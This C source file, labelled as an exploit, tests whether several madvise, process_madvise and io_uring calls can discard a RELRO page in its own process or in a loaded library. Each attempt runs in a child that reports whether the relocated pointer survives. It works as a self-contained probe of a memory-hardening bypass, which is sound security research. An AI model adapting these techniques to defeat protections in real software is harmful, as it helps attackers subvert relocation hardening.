/* SPDX-License-Identifier: Apache-2.0 */
/* Exploit: RELRO discarded. Advice of which mprotect's defences know nothing
 * takes a relocated page away: what is there then is the file's page, without
 * any relocation, or nothing. The target is the
 * program's own, or that of a library that it opens. Each attempt is a child's.
 * Says the errno, 0 if it worked, and whether the page is still what it was. */
#include "portable.h"

#include <linux/io_uring.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>

enum { dontneed_locked = 24, guard_install = 102 };

static int target;
static void *const relro[2048] = {[1024] = &target, [1500] = &target};
/* In the middle: the first and the last page may hold other things. */
static void *const volatile *cell = &relro[1024];
static void *original;

static char *page_of(void) {
  uintptr_t mask = (uintptr_t)sysconf(_SC_PAGESIZE) - 1;
  return (char *)((uintptr_t)cell & ~mask);
}

static int by_madvise(int advice) {
  return madvise(page_of(), (size_t)sysconf(_SC_PAGESIZE), advice) == 0 ? 0
                                                                        : errno;
}

static int by_process_madvise(int advice) {
  struct iovec page = {page_of(), (size_t)sysconf(_SC_PAGESIZE)};
  int self = (int)syscall(SYS_pidfd_open, getpid(), 0);
  return syscall(SYS_process_madvise, self, &page, 1L, advice, 0) > 0 ? 0
                                                                      : errno;
}

static int by_ring(int advice) {
  struct io_uring_params params;
  memset(&params, 0, sizeof params);
  int ring = (int)syscall(SYS_io_uring_setup, 4, &params);
  if (ring < 0)
    return errno;
  char *sq = mmap(NULL, params.sq_off.array + 64, PROT_READ | PROT_WRITE,
                  MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
  char *cq = mmap(NULL, params.cq_off.cqes + 64 * sizeof(struct io_uring_cqe),
                  PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
                  IORING_OFF_CQ_RING);
  struct io_uring_sqe *entry =
      mmap(NULL, 4 * sizeof *entry, PROT_READ | PROT_WRITE,
           MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
  if (sq == MAP_FAILED || cq == MAP_FAILED || (void *)entry == MAP_FAILED)
    return errno;
  memset(entry, 0, sizeof *entry);
  entry->opcode = IORING_OP_MADVISE;
  entry->addr = (uintptr_t)page_of();
  entry->len = (unsigned)sysconf(_SC_PAGESIZE);
  entry->fadvise_advice = (unsigned)advice;
  ((unsigned *)(sq + params.sq_off.array))[0] = 0;
  atomic_thread_fence(memory_order_seq_cst);
  *(volatile unsigned *)(sq + params.sq_off.tail) = 1;
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL,
              0L) != 1)
    return errno;
  return -((struct io_uring_cqe *)(cq + params.cq_off.cqes))->res;
}

static int in_child(int (*act)(void *), void *argument) {
  fflush(stdout);
  pid_t child = fork();
  if (child == 0)
    _exit(act(argument));
  int status = 0;
  if (waitpid(child, &status, 0) != child)
    return -1;
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1000 + WTERMSIG(status);
}

static int is_kept(void *unused) {
  (void)unused;
  signal(SIGSEGV, SIG_DFL);
  return *cell == original;
}

struct attempt {
  const char *name;
  int (*make)(int);
  int advice;
};

/* Its own child looks: the page may be gone, or gone from children only. */
static int try(void *argument) {
  const struct attempt *attempt = argument;
  int error = attempt->make(attempt->advice);
  printf("%s=%d kept=%d\n", attempt->name, error, in_child(is_kept, NULL) == 1);
  fflush(stdout);
  return 0;
}

int main(int argc, char **argv) {
  static struct attempt attempts[] = {
      {"dontneed", by_madvise, MADV_DONTNEED},
      {"dontneed_locked", by_madvise, dontneed_locked},
      {"guard", by_madvise, guard_install},
      {"dontfork", by_madvise, MADV_DONTFORK},
      {"process_madvise", by_process_madvise, MADV_DONTNEED},
      {"io_uring", by_ring, MADV_DONTNEED},
      {"free", by_madvise, MADV_FREE},
      {"remove", by_madvise, MADV_REMOVE},
  };
  if (argc > 1) {
    void *library = dlopen(argv[1], RTLD_NOW);
    void *const *(*find)(void) =
        (void *const *(*)(void))dlsym(library, "witness_cell");
    if (library == NULL || find == NULL)
      return 2;
    cell = find();
  }
  original = *cell;
  for (unsigned i = 0; i < sizeof attempts / sizeof *attempts; ++i)
    in_child(try, &attempts[i]);
  return 0;
}
